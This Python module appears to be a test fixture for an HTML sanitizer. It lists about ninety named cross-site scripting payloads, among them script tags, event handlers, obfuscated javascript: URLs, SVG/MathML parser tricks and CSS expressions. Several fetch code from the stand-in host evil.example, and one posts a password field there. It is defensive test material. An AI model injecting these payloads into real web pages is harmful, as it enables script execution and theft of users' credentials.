"""Seventy-odd ways to bring something active into an article; ``alert(1)`` stands for the harm.

Each stands between two paragraphs.  ``Attack.swallows``: HTML's own rules make it take the second one with it.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Attack:
    """One of them: its name, its HTML."""

    name: str
    html: str
    swallows: bool = False


_J = "javascript:alert(1)"
_EVIL = "https://evil.example/x"

_SCRIPTS = [
    Attack("script", "<script>alert(1)</script>"),
    Attack("script-src", f"<script src={_EVIL}></script>"),
    Attack("script-in-capitals", "<ScRiPt>alert(1)</sCrIpT >"),
    Attack("script-with-slash", "<script/x>alert(1)</script>"),
    Attack("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Attack("script-unclosed", "<script>alert(1)", swallows=True),
    Attack("script-half-a-tag", "<<script>alert(1)//<</script>"),
    Attack("script-behind-a-comment", "<!--><script>alert(1)</script>-->"),
    Attack("script-in-conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    Attack("script-in-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Attack("script-in-noscript", '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>'),
    Attack("script-in-textarea", "<textarea><script>alert(1)</script></textarea>"),
    Attack("script-in-title", '<title><a title="</title><script>alert(1)</script>"></title>'),
    Attack("script-in-xmp", "<xmp><script>alert(1)</script></xmp>"),
    Attack("script-behind-plaintext", "<plaintext><script>alert(1)</script>"),
    Attack("script-in-template", "<template><script>alert(1)</script></template>"),
    Attack("script-in-select", "<select><script>alert(1)</script></select>"),
    Attack(
        "script-with-full-width-signs", "＜script＞alert(1)＜/script＞ \u00bcscript\u00bealert(1)\u00bc/script\u00be"
    ),
    Attack("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?><?php alert(1) ?>'),
]

_HANDLERS = [
    Attack("img-onerror", "<img src=x onerror=alert(1)>"),
    Attack("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    Attack("img-onerror-backtick", "<img src=`x`onerror=alert(1)>"),
    Attack("img-onerror-quote-trick", '<img src="x` `<script>alert(1)</script>"` `onerror=alert(1)>'),
    Attack("img-onerror-new-line", "<img src=x\nonerror\n=\nalert(1)>"),
    Attack("img-onerror-form-feed", "<img src=x\fonerror=alert(1)>"),
    Attack("handler-in-an-attribute", '<p title="><img src=x onerror=alert(1)>">文</p>'),
    Attack("handler-by-reference", "<p title='&quot; onmouseover=&quot;alert(1)'>文</p>"),
    Attack("handler-in-capitals", "<p OnMouseOver=alert(1)>文</p>"),
    Attack("handler-unheard-of", "<p onfoobar=alert(1) onpointerrawupdate=alert(1)>文</p>"),
    Attack("body-onload", "<body onload=alert(1)>"),
    Attack("details-ontoggle", "<details open ontoggle=alert(1)>文</details>"),
    Attack("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    Attack("marquee-onstart", "<marquee onstart=alert(1)>文</marquee>"),
    Attack("autofocus", "<a href=#x tabindex=1 autofocus onfocus=alert(1)>文</a>"),
    Attack("custom-element", "<x-y onclick=alert(1) contenteditable autofocus>文</x-y>"),
]

_ADDRESSES = [
    Attack("javascript", f"<a href='{_J}'>文</a>"),
    Attack("javascript-decimal", "<a href='&#106;avascript:alert(1)'>文</a>"),
    Attack("javascript-long-decimal", "<a href='&#0000106&#0000097&#0000118ascript:alert(1)'>文</a>"),
    Attack("javascript-hexadecimal", "<a href='&#x6A;avascript&#x3a;alert(1)'>文</a>"),
    Attack("javascript-tab", "<a href='java&Tab;script:alert(1)'>文</a>"),
    Attack("javascript-new-line", "<a href='java&NewLine;script&colon;alert(1)'>文</a>"),
    Attack("javascript-raw-tab", "<a href='jav\tascript:alert(1)'>文</a>"),
    Attack("javascript-control", "<a href='&#1;&#14; javascript:alert(1)'>文</a>"),
    Attack("javascript-soft-hyphen", "<a href='java&shy;script:alert(1)'>文</a>"),
    Attack("javascript-escaped-twice", "<a href='java&amp;#115;cript:alert(1)'>文</a>"),
    Attack("javascript-per-cent", "<a href='javascript:%61lert(1)'>文</a>"),
    Attack("javascript-behind-view-source", "<a href='view-source:javascript:alert(1)'>文</a>"),
    Attack("vbscript", "<a href='vbscript:msgbox(1)'>文</a>"),
    Attack("data-html", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>文</a>"),
    Attack("data-svg-in-img", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"),
    Attack("file-and-blob", "<a href='file:///etc/passwd'>文</a><a href='blob:https://evil.example/1'>文</a>"),
    Attack("xlink-href", f"<a xlink:href='{_J}'>文</a>"),
    Attack("poster", f"<video poster='{_J}'></video>"),
    Attack("background", f"<table background='{_J}'><tr><td background='{_J}'>文</td></tr></table>"),
    Attack("img-javascript", f"<img src='{_J}' dynsrc='{_J}' lowsrc='{_J}'>"),
    Attack("srcset", f"<img src=https://cdn.example/a.jpg srcset='{_J} 2x'><picture><source srcset='{_J}'></picture>"),
    Attack("ping", f"<a href=https://paper.example/ ping={_EVIL}>文</a>"),
    Attack("cite-and-longdesc", f"<blockquote cite='{_J}'>文</blockquote><img alt=x longdesc='{_J}'>"),
    Attack("image-map", f"<img usemap=#m src=https://cdn.example/a.jpg><map name=m><area href='{_J}'></map>"),
]

_FORMS_AND_FRAMES = [
    Attack("formaction", f"<button formaction='{_J}'>文</button>"),
    Attack("form", f"<form action={_EVIL}><input name=password type=image src=x onerror=alert(1)></form>"),
    Attack("isindex", f"<isindex action='{_J}' type=image>"),
    Attack("iframe", f"<iframe src='{_J}'></iframe>"),
    Attack("srcdoc", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"),
    Attack("frameset", f"<frameset><frame src='{_J}'></frameset>"),
    Attack("object", f"<object data='{_J}'><param name=x value=y>文</object>"),
    Attack("object-unclosed", "<object classid=clsid:x>文"),
    Attack("embed", f"<embed src={_EVIL}.swf allowscriptaccess=always>"),
    Attack("applet", f"<applet code=x archive={_EVIL}.jar>文</applet>"),
    Attack("portal", f"<portal src='{_J}'></portal><fencedframe src='{_J}'></fencedframe>"),
]

_FOREIGN = [
    Attack("svg-onload", "<svg onload=alert(1)>"),
    Attack("svg-script", "<svg><script>alert(1)</script></svg>"),
    Attack("svg-script-by-href", f"<svg><script href='{_EVIL}'/></svg>"),
    Attack("svg-animate", f"<svg><a><animate attributeName=href values='{_J}'/><text>文</text></a></svg>"),
    Attack("svg-set", f"<svg><set attributeName=onmouseover to=alert(1)><a href='{_J}'>文</a></svg>"),
    Attack("svg-use", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>"),
    Attack("svg-foreign-object", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    Attack("svg-style", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>"),
    Attack("svg-desc-and-title", "<svg><desc><title><img src=x onerror=alert(1)></title></desc></svg>"),
    Attack("math-href", f"<math href='{_J}'>文</math>"),
    Attack(
        "math-actiontype",
        "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>x</maction></math>",
    ),
    Attack(
        "math-mglyph",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
        swallows=True,
    ),
    Attack(
        "math-annotation", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>"
    ),
    Attack(
        "form-in-math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        swallows=True,
    ),
    Attack(
        "xml-island",
        "<xml id=x><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml><span datasrc=#x datafld=b>文</span>",
    ),
]

_PAGE = [
    Attack("meta-refresh", f"<meta http-equiv=refresh content='0;url={_J}'>"),
    Attack("meta-cookie", "<meta http-equiv=Set-Cookie content='a=<script>alert(1)</script>'>"),
    Attack("base", f"<base href='{_J}//'><a href=x>文</a>"),
    Attack("link-stylesheet", f"<link rel=stylesheet href='{_J}'><link rel=import href={_EVIL}>"),
    Attack("style-import", f"<style>@import '{_EVIL}';</style>"),
    Attack("style-expression", "<p style='width:expression(alert(1))'>文</p>"),
    Attack("style-moz-binding", f"<p style='-moz-binding:url({_EVIL}#x)'>文</p>"),
    Attack("style-over-the-page", "<p style='position:fixed;inset:0;z-index:9'>文</p>"),
    Attack("style-url-by-escape", "<p style='background:\\75rl(javascript:alert(1))'>文</p>"),
    Attack("id-that-hides-a-global", "<a id=document name=cookie href=https://paper.example/>文</a>"),
    Attack("class-of-the-page", "<p class='nav hidden' id=top slot=x is=x-y>文</p>"),
    Attack("dialog-and-popover", "<dialog open><button popovertarget=x popovertargetaction=show>文</button></dialog>"),
    Attack("end-tags-of-the-page", "</div></article></main></body></html><script>alert(1)</script>"),
    Attack("comment-unclosed", "<!-- <p>alert(1)</p>", swallows=True),
    Attack("attribute-unclosed", "<a href='https://paper.example/ title=", swallows=True),
    Attack("layer", f"<layer src={_EVIL}></layer><ilayer src={_EVIL}></ilayer><bgsound src='{_J}'>"),
]

ATTACKS = [*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_FORMS_AND_FRAMES, *_FOREIGN, *_PAGE]
